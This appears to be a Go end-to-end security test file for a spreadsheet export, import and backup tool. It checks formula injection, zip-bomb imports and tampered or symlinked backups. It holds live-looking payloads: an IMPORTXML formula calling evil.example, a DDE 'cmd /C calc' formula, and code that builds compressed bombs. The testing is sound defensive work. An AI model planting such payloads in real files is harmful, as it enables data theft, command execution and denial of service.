package e2e

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"encoding/csv"
	"errors"
	"fmt"
	"hash/crc32"
	"html"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
)

// formulas are the ways a text can begin that a spreadsheet runs.
func formulas() []string {
	return []string{`=IMPORTXML("http://evil.example","//a")`, `+1+cmd|' /C calc'!A0`, `-2+3`, `@SUM(1+1)`, "\t=1+1"}
}

// formulaRows are spools whose texts are formulas.
func formulaRows() string {
	var out strings.Builder
	w := csv.NewWriter(&out)
	for i, f := range formulas() {
		row := make([]string, 14)
		row[0], row[1], row[2], row[3], row[4] = fmt.Sprintf("F-%03d", i+1), f, f, f, "05-10-2026"
		_ = w.Write(row) // a builder takes everything
	}
	w.Flush()
	return out.String()
}

func runs(text string) bool { return text != "" && strings.ContainsRune("=+-@\t\r", rune(text[0])) }

// exportedFiles is an export as a folder, by file.
func (a *assault) exportedFiles() map[string]string {
	dir := filepath.Join(a.t.TempDir(), "out")
	envivo(a.t, "export", "--data", a.data, "--out", dir)
	names, err := filepath.Glob(filepath.Join(dir, "*.csv"))
	if err != nil || len(names) == 0 {
		a.t.Fatalf("the export has no files: %v", err)
	}
	out := map[string]string{}
	for _, name := range names {
		text, err := os.ReadFile(name)
		if err != nil {
			a.t.Fatal(err)
		}
		out[filepath.Base(name)] = string(text)
	}
	return out
}

func (a *assault) formula() string {
	neutral := 0
	for name, text := range a.exportedFiles() {
		rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil {
			return name + ": " + err.Error()
		}
		for _, row := range rows {
			for _, cell := range row {
				if runs(cell) {
					return fmt.Sprintf("runs: %q in %s", cell, name)
				}
				if runs(strings.TrimPrefix(cell, "'")) {
					neutral++
				}
			}
		}
	}
	return a.neutralised(neutral)
}

// neutralised is the answer to exports, if they held something to neutralise:
// three texts of four formulas (a tab at the beginning is no part of a label),
// and a worker's name.
func (a *assault) neutralised(n int) string {
	if n < 13 {
		return fmt.Sprintf("only %d formulas were there; the row proves nothing", n)
	}
	return "neutralised with '"
}

// formulaPacked looks into an .xlsx: no cell has a formula, and no text is one.
func (a *assault) formulaPacked() string {
	path := filepath.Join(a.t.TempDir(), "out.xlsx")
	envivo(a.t, "export", "--data", a.data, "--out", path)
	z, err := zip.OpenReader(path)
	if err != nil {
		return err.Error()
	}
	defer z.Close()
	neutral := 0
	for _, part := range z.File {
		f, err := part.Open()
		if err != nil {
			return err.Error()
		}
		raw, err := io.ReadAll(f)
		if err := errors.Join(err, f.Close()); err != nil {
			return err.Error()
		}
		if bytes.Contains(raw, []byte("<f>")) || bytes.Contains(raw, []byte("<f ")) {
			return "a formula in " + part.Name
		}
		for _, m := range regexp.MustCompile(`<t(?: [^>]*)?>([^<]*)</t>`).FindAllSubmatch(raw, -1) {
			text := html.UnescapeString(string(m[1]))
			if runs(text) {
				return fmt.Sprintf("runs: %q in %s", text, part.Name)
			}
			if runs(strings.TrimPrefix(text, "'")) {
				neutral++
			}
		}
	}
	return a.neutralised(neutral)
}

// formulaInSheet looks at what the box wrote into the Sheet.
func (a *assault) formulaInSheet() string {
	a.settled()
	texts := 0
	for _, title := range a.sheet.b.Sheets() {
		rows, _ := a.sheet.b.Dump(title)
		for _, row := range rows {
			for _, c := range row {
				if c.Formula != "" {
					return fmt.Sprintf("%s has the formula %s", title, c.Formula)
				}
				if title == "Metadata" && runs(c.Text) {
					texts++
				}
			}
		}
	}
	if texts == 0 {
		return "no text of the box begins as a formula; the row proves nothing"
	}
	return "written as text"
}

// program runs the program beside the server, as an administrator would; what it
// says is the row's log. The record must be the same afterwards.
func (a *assault) program(args ...string) (said string, memory int64) {
	record := func() string {
		_, raw := a.ask("GET", "/api/events?after=0&limit=5000", "", bearer(a.admin)...)
		return raw
	}
	before := record()
	cmd := exec.Command(binary, args...)
	out, err := cmd.CombinedOutput()
	_, _ = a.logs.Write(out) // a buffer takes everything
	var exit *exec.ExitError
	switch {
	case !errors.As(err, &exit):
		return fmt.Sprintf("taken: %v", err), 0
	case record() != before:
		return "refused, and the record changed", 0
	}
	return fmt.Sprintf("exit %d, nothing changed", exit.ExitCode()), mostHeld(cmd.ProcessState)
}

// mostMemory is what refusing a bomb may cost, in bytes.
const mostMemory = 1 << 30

func (a *assault) imported(raw []byte) string {
	path := filepath.Join(a.t.TempDir(), "bomba.xlsx")
	if err := os.WriteFile(path, raw, 0o600); err != nil {
		a.t.Fatal(err)
	}
	said, memory := a.program("import", path, "--data", a.data)
	a.t.Logf("refusing an .xlsx of %d kB took %d MB", len(raw)>>10, memory>>20)
	if memory > mostMemory {
		return fmt.Sprintf("refused with %d MB", memory>>20)
	}
	return said
}

// bombed imports a megabyte that unfolds to a gigabyte.
func (a *assault) bombed() string {
	const parts, size = 64, 16 << 20
	blanks := bytes.Repeat([]byte(" "), size)
	var one, all bytes.Buffer
	w, err := flate.NewWriter(&one, flate.BestSpeed)
	if err == nil {
		_, err = w.Write(blanks)
	}
	if err := errors.Join(err, w.Flush()); err != nil {
		a.t.Fatal(err)
	}
	sum := crc32.NewIEEE()
	for range parts {
		all.Write(one.Bytes()) // it ends at a whole byte and looks back at nothing
		_, _ = sum.Write(blanks)
	}
	one.Reset()
	if w.Reset(&one); w.Close() == nil {
		all.Write(one.Bytes())
	}
	return a.imported(packedSheet(a, all.Bytes(), parts*size, sum.Sum32()))
}

// bombedByCells imports rows of which each says only that its last cell is the
// thousandth.
func (a *assault) bombedByCells() string {
	sheet := `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>` + strings.Repeat(`<row><c r="ALL1"><v>1</v></c></row>`, 9000) + `</sheetData></worksheet>`
	var small bytes.Buffer
	w, err := flate.NewWriter(&small, flate.BestSpeed)
	if err == nil {
		_, err = io.WriteString(w, sheet)
	}
	if err := errors.Join(err, w.Close()); err != nil {
		a.t.Fatal(err)
	}
	return a.imported(packedSheet(a, small.Bytes(), len(sheet), crc32.ChecksumIEEE([]byte(sheet))))
}

// packedSheet is an .xlsx with a worksheet Operaciones that is packed already.
func packedSheet(a *assault, small []byte, size int, sum uint32) []byte {
	const relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	for _, part := range [][2]string{
		{"[Content_Types].xml", `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`},
		{"_rels/.rels", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="` + relations + `/officeDocument" Target="xl/workbook.xml"/></Relationships>`},
		{"xl/workbook.xml", `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="` + relations + `"><sheets><sheet name="Operaciones" sheetId="1" r:id="rId1"/></sheets></workbook>`},
		{"xl/_rels/workbook.xml.rels", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="` + relations + `/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`},
	} {
		w, err := z.Create(part[0])
		if err == nil {
			_, err = io.WriteString(w, part[1])
		}
		if err != nil {
			a.t.Fatal(err)
		}
	}
	w, err := z.CreateRaw(&zip.FileHeader{Name: "xl/worksheets/sheet1.xml", Method: zip.Deflate, CRC32: sum, CompressedSize64: uint64(len(small)), UncompressedSize64: uint64(size)})
	if err == nil {
		_, err = w.Write(small)
	}
	if err := errors.Join(err, z.Close()); err != nil {
		a.t.Fatal(err)
	}
	return out.Bytes()
}

// saved is a backup in a folder of its own.
func (a *assault) saved() string {
	path := filepath.Join(a.t.TempDir(), "copia.db")
	envivo(a.t, "backup", "--data", a.data, "--out", path)
	return path
}

func (a *assault) linked() string {
	file := a.saved()
	if err := os.Symlink(file, file+".link"); err != nil {
		a.t.Fatal(err)
	}
	return file + ".link"
}

func (a *assault) bent() string {
	file := a.saved()
	raw, err := os.ReadFile(file)
	if err != nil {
		a.t.Fatal(err)
	}
	at := bytes.LastIndex(raw, []byte(spoolTag(3)))
	raw[at] ^= 1
	if err := os.WriteFile(file, raw, 0o600); err != nil {
		a.t.Fatal(err)
	}
	return file
}

// restored puts a file into a new folder, which must stay as empty as it was.
func (a *assault) restored(file string) string {
	to := filepath.Join(a.t.TempDir(), "nueva")
	said, _ := a.program("restore", file, "--data", to)
	if left, err := os.ReadDir(to); err == nil && len(left) > 0 {
		return fmt.Sprintf("%s; and left %v", said, left)
	}
	return said
}
